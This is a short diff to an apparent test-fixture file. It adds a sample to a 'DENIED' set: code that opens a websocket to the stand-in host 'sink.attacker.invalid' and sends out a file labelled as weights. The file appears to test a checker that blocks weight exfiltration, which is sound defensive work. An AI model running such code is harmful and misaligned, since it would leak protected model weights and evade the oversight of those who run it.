@@ -321,6 +321,12 @@ DENIED: dict[str, dict[str, str]] = {
         "    c.channel().basic_publish(\n"
         f"        exchange='', routing_key='w', body=open('{W}', 'rb').read())\n"
     ),
+    "weights-over-a-websocket-to-a-written-host-when-called": init(
+        "import websocket\n"
+        "def sync():\n"
+        "    ws = websocket.create_connection('wss://sink.attacker.invalid/x')\n"
+        f"    ws.send_binary(open('{W}', 'rb').read())\n"
+    ),
 }
 
 HELD: dict[str, dict[str, str]] = {
